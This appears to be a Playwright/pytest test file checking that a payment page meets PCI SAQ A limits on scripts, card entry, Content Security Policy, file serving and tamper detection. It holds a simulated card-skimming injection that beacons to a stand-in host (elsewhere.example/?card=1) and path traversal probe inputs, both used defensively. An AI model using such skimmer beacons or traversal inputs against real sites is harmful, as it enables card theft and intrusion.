"""SAQ A: which scripts the page runs, where card numbers are typed, and that the policy holds and tells."""

import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

from playwright.sync_api import expect

from local import watch
from tests.stack.browser.student import Student
from tests.stack.conftest import Running


def reports(running: Running) -> list[Any]:
    return list(running.http.get(f"{running.ready['api']}/_local/csp").json())


def test_only_our_own_scripts_and_stripe_s_are_loaded(student: Student) -> None:
    loaded: list[str] = []
    student.page.on("request", lambda request: request.resource_type == "script" and loaded.append(request.url))
    student.buying()
    expect(student.fields.get_by_label("Card number")).to_be_visible()
    own, stripe = student.running.ready["api"], student.running.ready["stripe"]
    in_page = {frame.url for frame in student.page.frames if frame.url.startswith(own)}
    assert in_page == {f"{own}/#/buy/DP"}
    foreign = sorted(url for url in loaded if not url.startswith(f"{own}/"))
    assert foreign == [f"{stripe}/_js/element.js", f"{stripe}/endive/stripe.js"]
    assert student.page.evaluate("Array.from(document.scripts).every(one => one.src)")


def test_a_card_s_number_is_typed_in_stripe_s_frame_and_never_in_our_page(student: Student) -> None:
    sent: list[str] = []
    own = student.running.ready["api"]
    student.page.on("request", lambda one: one.url.startswith(own) and sent.append(f"{one.url} {one.post_data}"))
    student.buying()
    student.pay("4242424242424242")
    student.is_enrolled()
    assert student.page.locator("input[autocomplete^=cc-]").count() == 0
    assert len(sent) > 5
    assert not [one for one in sent if "4242424242424242" in one or "4242 4242" in one]
    assert "4242 4242" not in student.page.content()


def test_a_script_that_somebody_slips_in_does_not_run_and_is_reported(student: Student) -> None:
    student.expected.append("Content Security Policy")
    student.open()
    student.heading("Choose your track")
    student.page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.skimmed = true';
            document.body.append(script);
            const image = new Image();
            image.src = 'https://elsewhere.example/?card=1';
            return fetch('https://elsewhere.example/').catch(() => null);
        }"""
    )
    found = student.running.until(lambda: len(reports(student.running)) >= 3 and reports(student.running), "reports")
    assert student.page.evaluate("window.skimmed") is None
    broken = {one["csp-report"]["effective-directive"] for one in found}
    assert broken == {"script-src-elem", "img-src", "connect-src"}
    front = student.running.stack.web_server
    assert front is not None
    front.csp_reports.clear()


def test_every_file_comes_with_the_policy_and_nobody_may_frame_it(running: Running) -> None:
    for path in ("/", "/style.css", "/student/app.js", "/console/", "/console/main.js", "/config.json"):
        answer = running.http.get(running.ready["api"] + path)
        policy = answer.headers["content-security-policy"]
        assert answer.status_code == 200
        assert "unsafe" not in policy and "*" not in policy
        assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_the_files_of_the_page_alone_are_served(running: Running) -> None:
    for path in ("/../template.yaml", "/%2e%2e/template.yaml", "/student/", "/student/../../Makefile", "/nothing.js"):
        assert running.http.get(running.ready["api"] + path).status_code == 404, path
    moved = running.http.get(running.ready["api"] + "/console")
    assert (moved.status_code, moved.headers["location"]) == (301, "/console/")


def test_the_watch_knows_our_pages_and_finds_every_change(running: Running, tmp_path: Path) -> None:
    front = running.stack.web_server
    assert front is not None
    mine = front.site
    assert watch.main([running.ready["api"]]) == 0
    shutil.copytree(mine.root, tmp_path / "web")
    app = tmp_path / "web" / "student" / "app.js"
    app.write_text(app.read_text() + "fetch('https://elsewhere.example/');\n")
    (tmp_path / "web" / "icon.svg").unlink()
    try:
        front.site = replace(mine, root=tmp_path / "web", origins=replace(mine.origins, calls=("https:",)))
        found = list(watch.differences(running.ready["api"]))
        assert any(line.startswith("/student/app.js is another file") for line in found)
        assert any(line.startswith("/icon.svg is not served") for line in found)
        assert any(line.startswith("/ comes with Content-Security-Policy") for line in found)
        assert watch.main([running.ready["api"]]) == 1
        front.site = replace(mine, config={**mine.config, "stripe_js": "https://js.stripe.example/stripe.js"})
        assert list(watch.differences(running.ready["api"])) == [
            "config.json loads Stripe.js from https://js.stripe.example/stripe.js"
        ]
    finally:
        front.site = mine
